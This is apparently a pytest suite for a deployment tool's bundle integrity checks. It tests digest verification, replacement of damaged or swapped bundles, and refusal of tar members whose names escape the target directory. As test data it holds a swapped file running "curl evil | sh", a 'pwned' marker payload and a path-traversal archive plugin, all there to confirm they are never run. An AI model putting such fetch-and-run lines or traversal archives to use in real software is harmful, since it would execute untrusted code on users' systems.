"""Bundles are checked against the digest in their name: before an upload reuses a stored
one, and before the runtime (``flyte-deploy run``) unpacks a downloaded one. A damaged,
truncated or swapped bundle is replaced on the next deploy and never run."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import subprocess
import sys
from pathlib import Path

import fsspec
import pytest

from flyte_deploy.bundle import digest_in_name, verify_bundle
from flyte_deploy.bundle.archive import write_archive
from flyte_deploy.bundle.fetch import fetch_bundle
from flyte_deploy.bundle.upload import upload
from flyte_deploy.errors import BundleIntegrityError, ExitCode
from flyte_deploy.types import Bundle

from .bundle_helpers import (
    cli,
    cli_env,
    deploy_json,
    local_archive,
    make_project,
    write,
)


def built(tmp_path: Path, files: dict[str, str], level: int = 1, name: str = "b") -> Bundle:
    """A real bundle of ``files`` written at zlib ``level``."""
    root = tmp_path / f"{name}-src"
    write(root, files)
    path = tmp_path / f"{name}.tar.gz"
    written = write_archive({n: str(root / n) for n in files}, path, level)
    return Bundle(
        copy_style="all",
        digest=written.digest,
        path=path,
        size=written.size,
        files=tuple(files),
        archive_digest=written.archive_digest,
    )


FILES = {"app.py": "print('the deployed code')\n", "data.txt": "x" * 50_000}


# -- verify_bundle ------------------------------------------------------------------------


def test_verify_bundle_accepts_a_path_bytes_or_stream_of_the_named_content(tmp_path: Path) -> None:
    bundle = built(tmp_path, FILES)
    data = bundle.path.read_bytes()
    assert bundle.digest == hashlib.sha256(gzip.decompress(data)).hexdigest()
    for given in (bundle.path, str(bundle.path), data, io.BytesIO(data)):
        assert verify_bundle(given, bundle.digest) == bundle.digest
    # another compressor, the same tar stream: the same bundle
    assert verify_bundle(built(tmp_path, FILES, level=9, name="best").path, bundle.digest) == bundle.digest


def test_a_mismatch_is_one_line_naming_the_uri_without_credentials_and_both_digests(tmp_path: Path) -> None:
    bundle = built(tmp_path, FILES)
    other = built(tmp_path, {**FILES, "app.py": "print('swapped')\n"}, name="other")
    uri = f"s3://AKIDEXAMPLE:s3cr3t@bucket/bundles/{bundle.digest}.tar.gz"
    with pytest.raises(BundleIntegrityError) as failed:
        verify_bundle(other.path, bundle.digest, source=uri)
    message = str(failed.value)
    assert message == (
        f"bundle s3://bucket/bundles/{bundle.digest}.tar.gz does not match its digest: its tar stream"
        f" has sha256 {other.digest}, expected {bundle.digest}"
    )
    assert failed.value.exit_code == ExitCode.BUNDLE_CORRUPT == 16


@pytest.mark.parametrize(
    "damage", ["truncated", "one changed byte", "bad crc", "not gzip", "empty", "trailing garbage"]
)
def test_damaged_bundles_fail_verification(damage: str, tmp_path: Path) -> None:
    bundle = built(tmp_path, FILES)
    data = bundle.path.read_bytes()
    stream = bytearray(gzip.decompress(data))
    stream[600] ^= 0x01  # one byte of app.py's content
    damaged = {
        "truncated": data[:-9],
        "one changed byte": gzip.compress(bytes(stream)),
        "bad crc": data[:-8] + bytes(8),
        "not gzip": b"<Error>NoSuchKey</Error>",
        "empty": b"",
        "trailing garbage": data + b"#!/bin/sh\n",
    }[damage]
    with pytest.raises(BundleIntegrityError, match=r"^bundle \(in memory\) (is damaged|does not match)"):
        verify_bundle(damaged, bundle.digest)


def test_digest_in_name() -> None:
    digest = "ab" * 32
    assert digest_in_name(f"s3://b/p/{digest}.tar.gz") == digest == digest_in_name(f"/x/{digest}.tar.gz")
    for uri in (
        "s3://b/p/bundle.tar.gz",
        f"s3://b/{digest.upper()}.tar.gz",
        f"s3://b/{digest}.tar.gz.bak",
        f"s3://b/{digest[:-1]}.tar.gz",
    ):
        assert digest_in_name(uri) is None


# -- reuse at the content address ---------------------------------------------------------


def test_a_stored_object_from_another_compressor_is_reused_unchanged(tmp_path: Path) -> None:
    bundle = built(tmp_path, FILES)
    target = tmp_path / "store" / bundle.filename
    target.parent.mkdir()
    other_zlib = built(tmp_path, FILES, level=9, name="best").path.read_bytes()
    target.write_bytes(other_zlib)
    before = target.stat()
    assert upload(bundle, target.as_uri()) == target.as_uri()
    after = target.stat()
    assert target.read_bytes() == other_zlib
    assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns)


@pytest.mark.parametrize("damage", ["garbage", "truncated", "swapped", "empty"])
def test_a_damaged_object_at_the_content_address_is_replaced(damage: str, tmp_path: Path) -> None:
    bundle = built(tmp_path, FILES)
    good = bundle.path.read_bytes()
    target = tmp_path / "store" / bundle.filename
    target.parent.mkdir()
    swapped = built(tmp_path, {**FILES, "app.py": "import os; os.system('curl evil | sh')\n"}, name="evil")
    target.write_bytes(
        {
            "garbage": b"not a bundle",
            "truncated": good[: len(good) - 100],
            "empty": b"",
            "swapped": swapped.path.read_bytes(),
        }[damage]
    )
    assert upload(bundle, target.as_uri()) == target.as_uri()
    assert target.read_bytes() == good
    assert sorted(p.name for p in target.parent.iterdir()) == [target.name]  # no partial copies left


def test_memory_storage_damaged_object_is_replaced_and_a_good_one_kept(tmp_path: Path) -> None:
    bundle = built(tmp_path, FILES)
    uri = f"memory://flyte-deploy-tests/{tmp_path.name}/{bundle.filename}"
    fs, path = fsspec.core.url_to_fs(uri)
    fs.pipe_file(path, bundle.path.read_bytes()[:-1])
    upload(bundle, uri)
    assert fs.cat_file(path) == bundle.path.read_bytes()
    stored = fs.store[path]
    upload(bundle, uri)
    assert fs.store[path] is stored  # verified, not uploaded again
    fs.rm(path)


# -- fetch for a run ------------------------------------------------------------------------


def test_fetch_verifies_before_unpacking(tmp_path: Path) -> None:
    bundle = built(tmp_path, FILES)
    swapped = built(tmp_path, {"app.py": "print('swapped')\n"}, name="swapped")
    uri = f"memory://flyte-deploy-tests/{tmp_path.name}/{bundle.filename}"
    fs, path = fsspec.core.url_to_fs(uri)
    fs.pipe_file(path, swapped.path.read_bytes())
    dest = tmp_path / "dest"
    with pytest.raises(
        BundleIntegrityError,
        match=f"^bundle {uri} does not match its digest: its tar stream has"
        f" sha256 {swapped.digest}, expected {bundle.digest}$",
    ):
        fetch_bundle(uri, dest)
    assert not dest.exists() or list(dest.iterdir()) == []
    fs.pipe_file(path, bundle.path.read_bytes())
    assert sorted(fetch_bundle(uri, dest)) == sorted(FILES)
    unnamed = f"memory://flyte-deploy-tests/{tmp_path.name}/bundle.tar.gz"
    fs.pipe_file(fs._strip_protocol(unnamed), bundle.path.read_bytes())
    with pytest.raises(BundleIntegrityError, match="its name is not <sha256>.tar.gz"):
        fetch_bundle(unnamed, tmp_path / "dest2")
    fs.rm(f"/flyte-deploy-tests/{tmp_path.name}", recursive=True)


def test_the_runtime_imports_the_bundle_library_and_no_built_in_plugin() -> None:
    code = (
        "import json, sys, flyte_deploy.runtime; print(json.dumps(sorted(m for m in sys.modules"
        " if m.startswith(('flyte_deploy.builtin', 'flyte_deploy.bundle')))))"
    )
    done = subprocess.run([sys.executable, "-c", code], env=cli_env(), capture_output=True, text=True, check=True)
    assert json.loads(done.stdout) == [
        "flyte_deploy.bundle",
        "flyte_deploy.bundle.extract",
        "flyte_deploy.bundle.fetch",
        "flyte_deploy.bundle.files",
        "flyte_deploy.bundle.integrity",
    ]


# -- through the CLI ----------------------------------------------------------------------


SWAPPED_FLOWS = """
import pathlib
pathlib.Path(__file__).resolve().parents[3].joinpath("SWAPPED-CODE-RAN").write_text("pwned")

import flyte_deploy as fd

shop = fd.TaskEnvironment(name="shop")
audit = fd.TaskEnvironment(name="audit", depends_on=[shop])


@audit.task
def check() -> str:
    return "PWNED"
"""


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return make_project(tmp_path / "shop")


def test_a_bundle_swapped_in_storage_is_never_run_and_the_next_deploy_repairs_it(project: Path, tmp_path: Path) -> None:
    first = deploy_json(["flows.py", "audit", "--version", "v1"], project)
    stored = local_archive(first)
    good = stored.read_bytes()
    ok = cli(["run", "audit.check", "--version", "v1", "--output", "json"], project)
    assert ok.returncode == 0 and json.loads(ok.stdout)["outputs"] == {"o0": "OK!"}, ok.stderr
    # an attacker with write access to the storage swaps in other code under the same name
    evil = built(
        tmp_path,
        {"flows.py": SWAPPED_FLOWS, "helpers/__init__.py": "", "helpers/numbers.py": "", "helpers/text.py": ""},
        name="evil",
    )
    stored.write_bytes(evil.path.read_bytes())
    refused = cli(["run", "audit.check", "--version", "v1"], project)
    assert refused.returncode == ExitCode.BUNDLE_CORRUPT, refused.stderr
    errors = [line for line in refused.stderr.splitlines() if line.startswith("error:")]
    expected = (
        f"error: bundle {first['bundle']['uri']} does not match its digest: its tar stream has sha256"
        f" {evil.digest}, expected {first['bundle']['digest']}"
    )
    assert errors == [expected]
    assert "PWNED" not in refused.stdout + refused.stderr
    assert not list(tmp_path.rglob("SWAPPED-CODE-RAN"))
    # the same deploy again finds the object damaged and uploads the real bundle over it
    again = deploy_json(["flows.py", "audit", "--version", "v1"], project)
    assert again["bundle"]["uri"] == first["bundle"]["uri"] and stored.read_bytes() == good
    assert {r["status"] for r in again["registrations"]} == {"unchanged"}
    ok = cli(["run", "audit.check", "--version", "v1", "--output", "json"], project)
    assert ok.returncode == 0 and json.loads(ok.stdout)["outputs"] == {"o0": "OK!"}, ok.stderr


def test_a_truncated_stored_bundle_is_refused_by_run_and_replaced_by_deploy(project: Path) -> None:
    first = deploy_json(["flows.py", "audit"], project)
    stored = local_archive(first)
    good = stored.read_bytes()
    stored.write_bytes(good[: len(good) // 2])  # as a crashed copy by another tool would leave it
    refused = cli(["run", "audit.check"], project)
    assert refused.returncode == ExitCode.BUNDLE_CORRUPT
    assert f"error: bundle {first['bundle']['uri']} is damaged: truncated" in refused.stderr
    deploy_json(["flows.py", "audit"], project)
    assert hashlib.sha256(stored.read_bytes()).hexdigest() == first["bundle"]["archive_digest"]


HOSTILE_PLUGIN = '''
import gzip, hashlib, io, tarfile
from pathlib import Path

import flyte_deploy as fd


@fd.hookimpl(tryfirst=True)
def build_bundle(session, plan):
    """A buggy or malicious bundle plugin: its archive climbs out of the target."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for name, data in (("flows.py", b"raise SystemExit('should never run')\\n"), ("../escape.py", b"x")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    stream = buffer.getvalue()
    path = plan.scratch_dir / "hostile.tar.gz"
    path.write_bytes(gzip.compress(stream, mtime=0))
    data = path.read_bytes()
    return fd.Bundle(copy_style="all", digest=hashlib.sha256(stream).hexdigest(), path=path, size=len(data),
                     files=("flows.py", "../escape.py"), archive_digest=hashlib.sha256(data).hexdigest())
'''


def test_run_names_the_unsafe_member_of_a_bundle_and_why(project: Path, tmp_path: Path) -> None:
    write(project, {"deployconf.py": HOSTILE_PLUGIN})
    deploy_json(["flows.py", "audit", "--version", "h1"], project)
    refused = cli(["run", "audit.check", "--version", "h1"], project)
    assert refused.returncode == ExitCode.BUNDLE_FAILED, refused.stderr
    errors = [line for line in refused.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and errors[0].endswith(
        ": member '../escape.py' has '..' in its name, which would escape the target directory"
    ), errors
    assert "exited with code" not in refused.stderr and not list(tmp_path.rglob("escape.py"))
